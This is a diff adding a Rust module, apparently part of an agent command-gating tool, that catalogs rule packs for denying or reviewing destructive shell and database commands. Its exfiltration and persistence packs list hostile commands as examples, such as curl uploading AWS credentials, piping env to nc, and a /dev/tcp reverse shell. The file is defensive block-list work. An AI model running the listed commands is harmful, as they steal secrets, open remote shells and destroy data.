@@ -1,0 +1,477 @@
+//! The rule packs: named, documented groups of command rules that a policy turns on or off.
+//!
+//! This is the catalog (names, ids, texts, severities, default verdicts, what each rule
+//! stops); the shell analysis holds how each rule matches a parsed command, keyed by the same
+//! ids, and the engine applies the database rules to MCP tools that carry SQL. A rule denies
+//! irreversible destruction and asks for review of risky but routine work.
+
+use crate::action::{Severity, WorkflowAction};
+use crate::verdict::Verdict;
+
+/// What a pack rule answers unless the policy says otherwise.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum PackVerdict {
+    /// Must not run: irreversible destruction.
+    Deny,
+    /// A person decides (`hook.on_review`): risky but routine work.
+    Review,
+}
+
+impl PackVerdict {
+    /// The verdict a match gives.
+    pub fn verdict(self) -> Verdict {
+        match self {
+            PackVerdict::Deny => Verdict::Deny,
+            PackVerdict::Review => Verdict::Review,
+        }
+    }
+
+    /// The acgs-lite workflow action with the same effect.
+    pub fn workflow_action(self) -> WorkflowAction {
+        match self {
+            PackVerdict::Deny => WorkflowAction::Block,
+            PackVerdict::Review => WorkflowAction::RequireHumanReview,
+        }
+    }
+
+    /// `deny` or `review`.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            PackVerdict::Deny => "deny",
+            PackVerdict::Review => "review",
+        }
+    }
+}
+
+/// One rule of a pack.
+#[derive(Debug)]
+pub struct PackRule {
+    /// Unique id (`TG-IAC-DESTROY`).
+    pub id: &'static str,
+    /// Why a match is refused (shown in reasons; holds no input).
+    pub text: &'static str,
+    /// Severity.
+    pub severity: Severity,
+    /// The default verdict.
+    pub verdict: PackVerdict,
+    /// What it stops, as commands (documentation).
+    pub stops: &'static str,
+}
+
+/// A named group of rules.
+#[derive(Debug)]
+pub struct Pack {
+    /// The name a policy uses (`cloud`).
+    pub name: &'static str,
+    /// One line on what the pack covers.
+    pub summary: &'static str,
+    /// Its rules.
+    pub rules: &'static [PackRule],
+}
+
+const fn deny(id: &'static str, text: &'static str, stops: &'static str) -> PackRule {
+    PackRule {
+        id,
+        text,
+        severity: Severity::Critical,
+        verdict: PackVerdict::Deny,
+        stops,
+    }
+}
+
+const fn review(id: &'static str, text: &'static str, stops: &'static str) -> PackRule {
+    PackRule {
+        id,
+        text,
+        severity: Severity::High,
+        verdict: PackVerdict::Review,
+        stops,
+    }
+}
+
+/// Every pack, in documentation order.
+pub const PACKS: &[Pack] = &[
+    Pack {
+        name: "cloud",
+        summary: "deleting cloud resources (AWS, Google Cloud, Azure)",
+        rules: &[
+            deny(
+                "TG-CLOUD-AWS-S3-DELETE",
+                "Deleting S3 buckets or objects recursively cannot be undone",
+                "aws s3 rm --recursive, aws s3 rb --force, aws s3api delete-bucket",
+            ),
+            deny(
+                "TG-CLOUD-AWS-COMPUTE-DELETE",
+                "Terminating instances or deleting functions destroys running infrastructure",
+                "aws ec2 terminate-instances, aws lambda delete-function",
+            ),
+            deny(
+                "TG-CLOUD-AWS-DATA-DELETE",
+                "Deleting databases or tables destroys their data",
+                "aws rds delete-db-instance|delete-db-cluster, aws dynamodb delete-table",
+            ),
+            deny(
+                "TG-CLOUD-AWS-STACK-DELETE",
+                "Deleting a CloudFormation stack deletes every resource in it",
+                "aws cloudformation delete-stack",
+            ),
+            deny(
+                "TG-CLOUD-AWS-IAM-DELETE",
+                "Deleting IAM users, roles or policies can lock people and services out",
+                "aws iam delete-*",
+            ),
+            deny(
+                "TG-CLOUD-AWS-KMS-DELETE",
+                "A deleted KMS key makes everything encrypted with it unreadable",
+                "aws kms schedule-key-deletion",
+            ),
+            deny(
+                "TG-CLOUD-GCLOUD-DELETE",
+                "Deleting Google Cloud projects, instances or databases cannot be undone",
+                "gcloud projects delete, gcloud compute instances delete, gcloud sql instances delete",
+            ),
+            deny(
+                "TG-CLOUD-GCS-DELETE",
+                "Deleting Cloud Storage objects recursively cannot be undone",
+                "gcloud storage rm -r, gsutil rm -r, gsutil rb",
+            ),
+            deny(
+                "TG-CLOUD-AZ-DELETE",
+                "Deleting Azure resource groups, VMs or storage cannot be undone",
+                "az group delete, az vm delete, az storage … delete",
+            ),
+        ],
+    },
+    Pack {
+        name: "iac",
+        summary: "infrastructure as code tearing infrastructure down",
+        rules: &[
+            deny(
+                "TG-IAC-DESTROY",
+                "Destroying the infrastructure a configuration manages cannot be undone",
+                "terraform destroy, terraform apply -destroy, tofu destroy, pulumi destroy, cdk destroy",
+            ),
+            review(
+                "TG-IAC-STATE-REMOVE",
+                "Removing resources or stacks from state makes the tool lose track of them",
+                "terraform state rm, tofu state rm, pulumi stack rm",
+            ),
+            review(
+                "TG-IAC-HELM-UNINSTALL",
+                "Uninstalling a Helm release deletes its Kubernetes resources",
+                "helm uninstall, helm delete",
+            ),
+        ],
+    },
+    Pack {
+        name: "clusters",
+        summary: "Kubernetes deletions and disruptions",
+        rules: &[
+            deny(
+                "TG-K8S-DELETE-CRITICAL",
+                "Deleting namespaces, nodes, volumes or resource definitions deletes everything in them",
+                "kubectl delete namespace|node|pv|pvc|crd",
+            ),
+            deny(
+                "TG-K8S-DELETE-ALL",
+                "Deleting every resource of a kind, or across all namespaces",
+                "kubectl delete --all, kubectl delete -A, kubectl delete --all-namespaces",
+            ),
+            review(
+                "TG-K8S-DISRUPT",
+                "Draining nodes, pruning on apply and forced replacement disrupt running workloads",
+                "kubectl drain, kubectl apply --prune, kubectl replace --force",
+            ),
+        ],
+    },
+    Pack {
+        name: "databases",
+        summary: "dropping, truncating or emptying databases",
+        rules: &[
+            deny(
+                "TG-DB-DROP",
+                "Dropping a database, schema or table destroys its data",
+                "DROP DATABASE|SCHEMA|TABLE through psql, mysql, sqlite3, clickhouse-client or an MCP tool",
+            ),
+            deny(
+                "TG-DB-TRUNCATE",
+                "Truncating a table destroys its data",
+                "TRUNCATE",
+            ),
+            deny(
+                "TG-DB-UNSCOPED-WRITE",
+                "DELETE or UPDATE without WHERE changes every row",
+                "DELETE FROM t, UPDATE t SET …, WHERE 1=1",
+            ),
+            deny(
+                "TG-DB-KEYSTORE-WIPE",
+                "Flushing or deleting every key of a key-value store destroys its data",
+                "redis-cli FLUSHALL|FLUSHDB, etcdctl del --prefix",
+            ),
+            deny(
+                "TG-DB-MONGO-DROP",
+                "Dropping a MongoDB database or collection, or deleting every document",
+                "mongosh --eval 'db.dropDatabase()', db.c.drop(), db.c.deleteMany({})",
+            ),
+            deny(
+                "TG-DB-DROP-COMMAND",
+                "Dropping or resetting a database through a framework or client command",
+                "dropdb, mysqladmin drop, rails db:drop|reset, rake db:drop, prisma migrate reset, manage.py flush",
+            ),
+        ],
+    },
+    Pack {
+        name: "containers",
+        summary: "removing containers, images and volumes wholesale",
+        rules: &[
+            deny(
+                "TG-CONTAINER-VOLUME-DELETE",
+                "Deleting container volumes destroys the data in them",
+                "docker volume rm|prune, docker system prune --volumes (podman too)",
+            ),
+            deny(
+                "TG-CONTAINER-REMOVE-ALL",
+                "Removing every container loses what they hold",
+                "docker rm -f $(docker ps -aq)",
+            ),
+            review(
+                "TG-CONTAINER-SYSTEM-PRUNE",
+                "Pruning every unused image and container",
+                "docker system prune -a, podman system prune --all",
+            ),
+        ],
+    },
+    Pack {
+        name: "host",
+        summary: "taking the machine down or weakening it",
+        rules: &[
+            deny(
+                "TG-HOST-POWER",
+                "Shutting down or rebooting the machine",
+                "shutdown, reboot, halt, poweroff, init 0|6, systemctl poweroff|reboot",
+            ),
+            review(
+                "TG-HOST-SERVICE-STOP",
+                "Stopping, disabling or masking system services",
+                "systemctl stop|disable|mask, service NAME stop",
+            ),
+            deny(
+                "TG-HOST-KILL-ALL",
+                "Killing every process",
+                "kill -9 -1, kill -KILL -1, killall5",
+            ),
+            deny(
+                "TG-HOST-USER-DELETE",
+                "Deleting users or their passwords",
+                "userdel, deluser, passwd -d",
+            ),
+            deny(
+                "TG-HOST-FIREWALL-OFF",
+                "Turning off the firewall or mandatory access control",
+                "ufw disable, iptables -F, nft flush ruleset, setenforce 0",
+            ),
+            deny(
+                "TG-HOST-CRONTAB-REMOVE",
+                "Removing a user's crontab",
+                "crontab -r",
+            ),
+            review(
+                "TG-HOST-CRONTAB-REPLACE",
+                "Replacing a crontab installs scheduled commands",
+                "crontab FILE, crontab -, … | crontab",
+            ),
+            review(
+                "TG-HOST-HISTORY-CLEAR",
+                "Clearing shell history hides what was run",
+                "history -c, > ~/.bash_history, unset HISTFILE",
+            ),
+            review(
+                "TG-HOST-SWAP-OFF",
+                "Turning swap off can exhaust memory",
+                "swapoff -a",
+            ),
+            deny(
+                "TG-HOST-CORE-PACKAGE-REMOVE",
+                "Removing core system packages breaks the machine",
+                "apt remove systemd|libc6|coreutils|bash|sudo, dnf remove glibc",
+            ),
+            review(
+                "TG-HOST-CHATTR",
+                "Changing file attributes (immutable, append-only)",
+                "chattr +i, chattr -i",
+            ),
+            review(
+                "TG-HOST-SSH-KEYGEN-OVERWRITE",
+                "Generating a key over an existing SSH key loses it",
+                "ssh-keygen -f ~/.ssh/id_ed25519, yes | ssh-keygen",
+            ),
+        ],
+    },
+    Pack {
+        name: "hosting",
+        summary: "deleting repositories, releases and published packages",
+        rules: &[
+            review(
+                "TG-HOSTING-REPO-DELETE",
+                "Deleting a hosted repository or release",
+                "gh repo delete, gh release delete",
+            ),
+            review(
+                "TG-HOSTING-PACKAGE-UNPUBLISH",
+                "Unpublishing or yanking a published package breaks its users",
+                "npm unpublish, cargo yank",
+            ),
+        ],
+    },
+    Pack {
+        name: "exfiltration",
+        summary: "sending secrets to the network, reverse shells",
+        rules: &[
+            deny(
+                "TG-EXFIL-SECRET-UPLOAD",
+                "A secret (credentials, private keys, the environment, history) flows to a network sink",
+                "curl -d @~/.aws/credentials, env | nc host 80, scp ~/.ssh/id_rsa host:",
+            ),
+            deny(
+                "TG-EXFIL-REVERSE-SHELL",
+                "A shell wired to a network connection (reverse shell)",
+                "bash -i >& /dev/tcp/h/p 0>&1, nc -e /bin/sh, socat … exec:, python socket+dup2",
+            ),
+            deny(
+                "TG-EXFIL-PUBLIC-SERVER",
+                "Serving a home or credential directory on every interface",
+                "python -m http.server --bind 0.0.0.0 in ~",
+            ),
+        ],
+    },
+    Pack {
+        name: "persistence",
+        summary: "writing files that run code later (startup files, hooks, crontabs)",
+        rules: &[
+            review(
+                "TG-PERSIST-WRITE",
+                "Writing a startup, hook or scheduling file plants code that runs later",
+                "~/.bashrc, .git/hooks/*, ~/.ssh/authorized_keys, crontabs, systemd units, .envrc",
+            ),
+            review(
+                "TG-PERSIST-GIT-CONFIG",
+                "Setting a git configuration key whose value git runs as a program",
+                "git config core.hooksPath|core.fsmonitor|core.sshCommand, ! aliases",
+            ),
+        ],
+    },
+];
+
+/// The pack named `name`.
+pub fn pack(name: &str) -> Option<&'static Pack> {
+    PACKS.iter().find(|p| p.name == name)
+}
+
+/// Every pack name, for suggestions.
+pub fn pack_names() -> Vec<&'static str> {
+    PACKS.iter().map(|p| p.name).collect()
+}
+
+/// The rule with id `id` and the pack holding it.
+pub fn rule(id: &str) -> Option<(&'static Pack, &'static PackRule)> {
+    PACKS
+        .iter()
+        .find_map(|p| p.rules.iter().find(|r| r.id == id).map(|r| (p, r)))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn names_and_ids_are_unique_and_well_formed() {
+        let mut ids = Vec::new();
+        for (i, p) in PACKS.iter().enumerate() {
+            assert!(
+                p.name.bytes().all(|b| b.is_ascii_lowercase() || b == b'_'),
+                "{}",
+                p.name
+            );
+            assert!(PACKS[i + 1..].iter().all(|o| o.name != p.name));
+            assert!(!p.rules.is_empty() && !p.summary.is_empty());
+            for r in p.rules {
+                assert!(r.id.starts_with("TG-"), "{}", r.id);
+                assert!(
+                    r.id.bytes()
+                        .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'-'),
+                    "{}",
+                    r.id
+                );
+                assert!(!r.text.is_empty() && !r.stops.is_empty());
+                ids.push(r.id);
+                assert_eq!(rule(r.id).map(|(pk, _)| pk.name), Some(p.name));
+            }
+        }
+        let n = ids.len();
+        ids.sort_unstable();
+        ids.dedup();
+        assert_eq!(ids.len(), n, "rule ids must be unique");
+    }
+
+    #[test]
+    fn verdicts_follow_severity() {
+        // Deny rules are critical (block, no override); review rules are high.
+        for r in PACKS.iter().flat_map(|p| p.rules) {
+            match r.verdict {
+                PackVerdict::Deny => assert_eq!(r.severity, Severity::Critical, "{}", r.id),
+                PackVerdict::Review => assert_eq!(r.severity, Severity::High, "{}", r.id),
+            }
+            assert_eq!(r.verdict.workflow_action().verdict(), r.verdict.verdict());
+        }
+        assert!(
+            pack("hosting")
+                .unwrap()
+                .rules
+                .iter()
+                .all(|r| r.verdict == PackVerdict::Review)
+        );
+        assert!(pack("nope").is_none());
+        assert!(rule("TG-NOPE").is_none());
+    }
+}
+
+/// The README's table of packs and rules (between the `packs-table` markers), generated from
+/// [`PACKS`] so the two never disagree.
+pub fn markdown_table() -> String {
+    let mut out = String::from(
+        "| pack | rule | what it stops | default | turn it off |\n|---|---|---|---|---|\n",
+    );
+    for p in PACKS {
+        for r in p.rules {
+            out.push_str(&format!(
+                "| `{}` | `{}` | {} | {} | `packs: {{{}: off}}` or `disable: [{}]` |\n",
+                p.name,
+                r.id,
+                r.stops.replace('|', "\\|"),
+                r.verdict.as_str(),
+                p.name,
+                r.id
+            ));
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod readme_tests {
+    #[test]
+    fn the_readme_table_is_the_catalog() {
+        let readme =
+            std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../README.md"))
+                .expect("README.md at the repository root");
+        let start = "<!-- packs-table:start -->\n";
+        let end = "<!-- packs-table:end -->";
+        let from = readme.find(start).expect("start marker") + start.len();
+        let to = readme.find(end).expect("end marker");
+        assert_eq!(
+            &readme[from..to],
+            super::markdown_table(),
+            "regenerate the README table from toolgate_core::packs::markdown_table()"
+        );
+    }
+}
